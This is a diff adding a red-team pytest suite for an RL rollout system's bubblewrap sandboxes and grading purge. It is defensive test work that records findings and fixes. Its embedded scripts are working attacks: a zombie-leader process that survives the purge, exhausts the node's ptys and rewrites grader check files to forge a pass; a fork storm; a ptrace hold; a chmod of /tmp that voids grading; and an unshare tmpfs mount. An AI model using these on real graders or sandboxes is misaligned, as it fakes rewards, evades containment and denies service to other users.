@@ -1,0 +1,268 @@
+"""Red team of issue 24's defences, from inside real bubblewrap sandboxes (sandboxes as `nobody`
+when the tests run as root). Each test runs an attack the builders did not list. A test asserts
+that the defence holds; where the attack succeeds the test is kept, marked
+``xfail(strict=True)`` with the exact finding, so the suite stays green and the finding stays
+recorded (a fix turns it into an XPASS, which fails strict mode: then drop the mark).
+
+Attacks on the processes of the sandbox (purge), on the grade call's own set-up, on other
+sandboxes of the node, and on the bounds of writable paths. The swe grader's attacks are in
+test_sandbox_redteam_swe.py."""
+from __future__ import annotations
+
+import asyncio
+import time
+from pathlib import Path
+
+import pytest
+
+from rolloutd.bus.messages import Job
+from rolloutd.handlers.base import JobContext, Services
+from rolloutd.sandbox import Limits, SandboxSpec
+
+WRONG = "def has_close_elements(numbers, threshold):\n    return True\n"
+
+# A thread-group leader that ends with SYS_exit (not exit_group): /proc/<pid>/stat then says Z
+# for the process while its other thread runs on. Optionally it first takes every pty the
+# kernel hands to non-initial devpts instances (kernel.pty.max - kernel.pty.reserve, node-wide),
+# so the tool server cannot start a fresh shell after the agent's `exit`. The live thread
+# rewrites any HumanEval check file into a pass (the marker is in the file) and beats a file.
+ZOMBIE_LEADER = r"""
+import ctypes, glob, os, re, resource, sys, threading, time
+hog, seconds = sys.argv[1] == "hog", float(sys.argv[2])
+soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+if os.fork():
+    os._exit(0)
+os.setsid()
+if os.fork():
+    os._exit(0)
+fds = []
+while hog:
+    try:
+        fds.append(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
+    except OSError:
+        break
+
+def live():
+    n, end = 0, time.time() + seconds
+    while time.time() < end:
+        n += 1
+        with open("/workspace/beat", "w") as f:
+            f.write(str(n))
+        for path in glob.glob("/workspace/.rolloutd_check_*.py"):
+            try:
+                src = open(path).read()
+            except OSError:
+                continue
+            m = re.search(r"ROLLOUTD-CHECK-\" \+ '([0-9a-f]{32})'", src)
+            if m and "FORGED" not in src:
+                with open(path, "w") as f:
+                    f.write("print('FORGED'); print('ROLLOUTD-CHECK-%s')\n" % m.group(1))
+        time.sleep(0.001)
+    for fd in fds:
+        os.close(fd)
+    os._exit(0)
+
+threading.Thread(target=live).start()
+time.sleep(0.2)
+with open("/tmp/zl.ready", "w") as f:
+    f.write("ptys=%d\n" % len(fds))
+ctypes.CDLL(None).syscall(60, 0)  # SYS_exit: this thread only; the process lives on as a 'Z'
+"""
+
+# Beats while alive; the grader reads the beat twice, a second apart.
+BEAT_GRADER = ["sh", "-c", "a=$(cat beat 2>/dev/null); sleep 1; b=$(cat beat 2>/dev/null); echo \"beat:$a:$b\""]
+
+
+def _ctx(h, rt, **state):
+    ctx = JobContext(Job(job_id=1, attempt=1, handler="test", instance={}, sandbox=h.to_dict()),
+                     Services(lambda: rt))
+    ctx.state.update(state)
+    ctx.phase = "eval"
+    return ctx
+
+
+def _beats_during(out: str) -> bool:
+    line = [x for x in out.splitlines() if x.startswith("beat:")][-1]
+    _, a, b = line.split(":")
+    return a != b
+
+
+def _start_zombie_leader(c, mode: str, seconds: float) -> str:
+    r = c.call("bash", {"command": f"python3 zl.py {mode} {seconds}; "
+                                   "while [ ! -e /tmp/zl.ready ]; do sleep 0.02; done; cat /tmp/zl.ready; "
+                                   "cut -d' ' -f3 /proc/[0-9]*/stat | sort | uniq -c", "timeout": 30})
+    assert r.error is None and "ptys=" in r.output, r
+    return r.output
+
+
+def test_a_zombie_thread_group_leader_dies_in_the_purge(bwrap_rt):
+    """A process whose leader thread exited (its /proc entry says Z) while a thread lives: the
+    purge's /proc scan takes it for dead, but the shell is alive, so kill(-1) goes out and kills it."""
+    h = bwrap_rt.create("zl", SandboxSpec(workspace_files={"zl.py": ZOMBIE_LEADER}))
+    c = bwrap_rt.client(h, timeout=30)
+    out = _start_zombie_leader(c, "nohog", 30)
+    assert " Z" in out, out  # the control: it looks like a zombie, yet it beats
+    r = c.call("grade", {"argv": BEAT_GRADER, "timeout": 20, "env": {}})
+    assert r.error is None and not _beats_during(r.output), r
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "PURGE DEFEATED -> reward 1 for a wrong HumanEval solution. guard._alive_others() reads only "
+    "/proc/<tgid>/stat, whose state is the leader thread's: a process whose leader ended with "
+    "SYS_exit while another thread runs shows 'Z' and is skipped, and purge() sends kill(-1) only "
+    "when the scan found something alive. The agent makes the shell absent too: it holds every "
+    "pty of the node (3045 of kernel.pty.max 4096 - reserve 1024; RLIMIT_NOFILE raised to its "
+    "hard limit) in the zombie-leader process, then runs `exit`: the tool server cannot start a "
+    "fresh shell ('out of pty devices') and the Python session was never started. purge() then "
+    "reports killed=0, and the live thread rewrites the check file the host writes after "
+    "ctx.purge() before the grader reads it. Fix: in purge() always send kill(-1, SIGKILL) at "
+    "least once, and count a process alive unless every /proc/<pid>/task/*/stat is Z/X"))
+def test_a_zombie_leader_with_no_shell_left_cannot_reach_the_code_grader(bwrap_rt):
+    h = bwrap_rt.create("zl-code", SandboxSpec(limits=Limits(disk_mb=64),
+                                               workspace_files={"solution.py": WRONG, "zl.py": ZOMBIE_LEADER}))
+    c = bwrap_rt.client(h, timeout=30)
+    try:
+        _start_zombie_leader(c, "hog", 25)
+        r = c.call("bash", {"command": "exit", "timeout": 10})  # no pty for a fresh shell
+        from rolloutd.handlers.code import CodeHandler
+        reward, details = asyncio.run(CodeHandler().evaluate(_ctx(h, bwrap_rt.rt, task_id="HumanEval/0")))
+    finally:
+        bwrap_rt.rt.destroy(h)  # give the node's ptys back at once
+    assert reward == 0.0, (reward, details, r)
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "NODE-WIDE DoS: bwrap's /dev/pts is a devpts instance without max=, so one sandbox can take "
+    "every pty non-initial devpts instances may have (kernel.pty.max - kernel.pty.reserve = 3072 "
+    "here; one process, RLIMIT_NOFILE raised to its hard limit 20000). Every other sandbox of the "
+    "node then gets 'internal error in tool bash: OSError('out of pty devices')' on its first bash "
+    "call, for as long as the hog lives (its wall clock). Fix: a host-made devpts instance with "
+    "max=<small> bound into the sandbox (or a hard RLIMIT_NOFILE x nproc budget), and the shell's "
+    "pty opened before any agent process exists"))
+def test_one_sandbox_cannot_take_every_pty_of_the_node(bwrap_rt):
+    hog = bwrap_rt.create("hog", SandboxSpec(workspace_files={"zl.py": ZOMBIE_LEADER}))
+    c = bwrap_rt.client(hog, timeout=30)
+    try:
+        _start_zombie_leader(c, "hog", 20)
+        victim = bwrap_rt.create("victim", SandboxSpec())
+        r = bwrap_rt.client(victim, timeout=30).call("bash", {"command": "echo hello", "timeout": 10})
+    finally:
+        bwrap_rt.rt.destroy(hog)
+    assert r.error is None and r.output.strip() == "hello", r
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "GRADING TURNED INTO AN INFRASTRUCTURE FAILURE: bwrap's /tmp tmpfs is owned by the sandbox uid, "
+    "so `chmod 555 /tmp` is allowed; t_grade then makes the grader's HOME with "
+    "tempfile.mkdtemp(dir='/tmp') as the same uid -> PermissionError -> 'internal error in tool "
+    "grade' without 'purged' -> JobContext.grade raises -> the job fails (no reward) instead of "
+    "reward 0: a policy can turn each episode it expects to lose into a dropped sample. Fix: make "
+    "the grader's HOME where the agent cannot change permissions (a dir the tool server makes "
+    "at start-up outside /tmp, or restore /tmp's mode in the purge), and never let an error before "
+    "the grader starts pass for a failure of the infrastructure"))
+def test_a_read_only_tmp_does_not_stop_grading(bwrap_rt):
+    from rolloutd.handlers.code import CodeHandler
+
+    h = bwrap_rt.create("tmp", SandboxSpec(limits=Limits(disk_mb=64), workspace_files={"solution.py": WRONG}))
+    c = bwrap_rt.client(h, timeout=30)
+    r = c.call("bash", {"command": "chmod 555 /tmp && ls -ld /tmp", "timeout": 10})
+    assert r.output.startswith("dr-x"), r  # the control: the agent owns /tmp
+    reward, details = asyncio.run(CodeHandler().evaluate(_ctx(h, bwrap_rt.rt, task_id="HumanEval/0")))
+    assert reward == 0.0 and details["passed"] is False, details
+
+
+FORK_STORM = r"""
+import os, time
+if os.fork():
+    os._exit(0)
+os.setsid()
+open("/tmp/storm.ready", "w").close()
+while True:  # every process re-forks as soon as it can; the children beat the file
+    try:
+        pid = os.fork()
+    except OSError:
+        time.sleep(0.001)
+        continue
+    if pid == 0:
+        with open("/workspace/beat", "w") as f:
+            f.write(str(time.time()))
+        time.sleep(0.002)  # the tool server reaps orphans once a second: no zombie pile-up to nproc
+        continue
+    os._exit(0)  # the parent leaves at once: its pid is never the one killed next
+"""
+
+
+def test_processes_that_refork_as_fast_as_they_are_killed_die_in_the_purge(bwrap_rt):
+    h = bwrap_rt.create("storm", SandboxSpec(limits=Limits(nproc=2048), workspace_files={"storm.py": FORK_STORM}))
+    c = bwrap_rt.client(h, timeout=30)
+    r = c.call("bash", {"command": "python3 storm.py; while [ ! -e /tmp/storm.ready ]; do sleep 0.02; done; "
+                                   "sleep 0.5; a=$(cat beat); sleep 0.3; b=$(cat beat); echo beat:$a:$b",
+                        "timeout": 30})
+    assert _beats_during(r.output), r  # the control: the storm runs
+    r = c.call("grade", {"argv": BEAT_GRADER, "timeout": 20, "env": {}})
+    assert r.error is None and not _beats_during(r.output), r
+
+
+TRACER = r"""
+import ctypes, os, signal, time
+libc = ctypes.CDLL(None, use_errno=True)
+if os.fork():
+    os._exit(0)
+os.setsid()
+child = os.fork()
+if child == 0:  # the tracee beats; it is stopped again and again by its tracer
+    while True:
+        with open("/workspace/beat", "w") as f:
+            f.write(str(time.time()))
+        time.sleep(0.01)
+PTRACE_SEIZE, PTRACE_SETOPTIONS, PTRACE_CONT, O_EXITKILL_OFF, O_TRACEEXIT = 0x4206, 0x4200, 7, 0, 0x40
+assert libc.ptrace(PTRACE_SEIZE, child, 0, O_TRACEEXIT) == 0, ctypes.get_errno()
+open("/tmp/tracer.ready", "w").close()
+while True:  # keep it in exit-stop if it is ever killed: the tracer never lets it go
+    pid, status = os.waitpid(child, 0)
+    if os.WIFEXITED(status) or os.WIFSIGNALED(status):
+        break
+    if (status >> 16) == 6:  # PTRACE_EVENT_EXIT: hold it there
+        time.sleep(3600)
+    libc.ptrace(PTRACE_CONT, child, 0, 0)
+"""
+
+
+def test_a_tracee_held_in_exit_stop_by_its_tracer_dies_in_the_purge(bwrap_rt):
+    """PTRACE_O_TRACEEXIT: a SIGKILLed tracee stops at PTRACE_EVENT_EXIT until its tracer lets it
+    go; here the tracer never does. kill(-1) hits the tracer too, which releases the tracee."""
+    h = bwrap_rt.create("trace", SandboxSpec(workspace_files={"tr.py": TRACER}))
+    c = bwrap_rt.client(h, timeout=30)
+    r = c.call("bash", {"command": "python3 tr.py; while [ ! -e /tmp/tracer.ready ]; do sleep 0.02; done; "
+                                   "sleep 0.3; a=$(cat beat); sleep 0.3; b=$(cat beat); echo beat:$a:$b",
+                        "timeout": 30})
+    assert _beats_during(r.output), r
+    t0 = time.monotonic()
+    r = c.call("grade", {"argv": BEAT_GRADER + [], "timeout": 20, "env": {}})
+    assert r.error is None and not _beats_during(r.output), r
+    assert time.monotonic() - t0 < 15, "the purge waited for a held tracee"
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "UNBOUNDED WRITABLE PATH: the agent makes its own: `unshare -Urm` (a nested user+mount "
+    "namespace, allowed) and `mount -t tmpfs none /tmp/m` give a tmpfs sized at half the host's "
+    "RAM (12G here); 64 MB written into it (600 MB by hand) in a sandbox whose /tmp, /dev/shm and workspace are "
+    "16 MB each. The bounds test walks only the sandbox's own mount table. Same class as memfds "
+    "(documented as memory bounded only by a cgroup), but SANDBOX.md's 'every writable path is "
+    "bounded' does not hold for paths the agent mounts. Fix: a memory cgroup per sandbox, or "
+    "deny unshare(CLONE_NEWUSER) in the seccomp filter (also removes the nested-namespace "
+    "surface), or cap user.max_user_namespaces for the sandbox's user namespace (bwrap --userns-block-fd / "
+    "a sysctl in the sandbox's userns)"))
+def test_the_agent_cannot_mount_an_unbounded_tmpfs(short_root):
+    from tests.sandbox.conftest import Tracker, _make, require_bwrap
+
+    require_bwrap()
+    t = Tracker(_make("bwrap", short_root, tmp_size_mb=16, shm_size_mb=16))
+    try:
+        h = t.create("mnt", SandboxSpec(limits=Limits(disk_mb=16)))
+        r = t.client(h, timeout=60).call("bash", {"command": "mkdir -p /tmp/m && unshare -Urm sh -c 'mount -t tmpfs none /tmp/m && "
+                                   "head -c 64M /dev/zero > /tmp/m/x && stat -c %s /tmp/m/x'", "timeout": 50})
+    finally:
+        t.cleanup()
+    assert r.output.strip() != str(64 << 20), r
